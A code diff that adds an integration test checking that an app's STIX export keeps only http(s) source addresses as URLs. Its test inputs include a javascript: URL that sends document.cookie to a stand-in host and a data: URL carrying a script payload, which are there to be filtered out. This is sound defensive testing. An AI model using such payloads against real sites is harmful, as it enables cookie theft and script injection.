@@ -99,6 +99,23 @@ describe('export over HTTP and the CLI', () => {
     expect(csv.headers.get('content-disposition')).toMatch(/\.ach\.csv"$/)
   })
 
+  it('gives STIX only the web addresses of sources as URLs', async () => {
+    const api = apiClient(server.url, await bearer(owner))
+    const addresses = ['javascript:fetch("//evil.invalid/?"+document.cookie)', 'data:text/html,<script>alert(1)</script>', 'https://example.org/report', 'HTTP://example.org/old']
+    for (const [i, url] of addresses.entries()) {
+      const source = await api.post<{ id: string }>(`/api/boards/${boardId}/sources`, { name: `Source ${i}`, reliability: 'C', url })
+      expect(source.status).toBe(201)
+      expect((await api.post(`/api/boards/${boardId}/claims`, { text: `Claim ${i}.`, sourceId: source.body.id, credibility: 3 })).status).toBe(201)
+    }
+    const bundle = JSON.parse(new TextDecoder().decode((await download(await bearer(owner), 'format=stix')).bytes)) as {
+      objects: { type: string; name?: string; external_references?: { source_name: string; url?: string }[] }[]
+    }
+    const urls = bundle.objects.flatMap((o) => (o.external_references ?? []).flatMap((r) => (r.url === undefined ? [] : [`${o.type} ${r.source_name} ${r.url}`])))
+    expect(urls.sort()).toEqual(['identity Source 2 https://example.org/report', 'identity Source 3 HTTP://example.org/old', 'note Source 2 https://example.org/report', 'note Source 3 HTTP://example.org/old'])
+    // The claims of the other sources keep their citation, without a URL.
+    expect(bundle.objects.filter((o) => o.type === 'note' && o.external_references?.some((r) => r.source_name === 'Source 0'))).toHaveLength(1)
+  })
+
   it('exports from the command line', async () => {
     await server.close()
     const dir = tempDir()
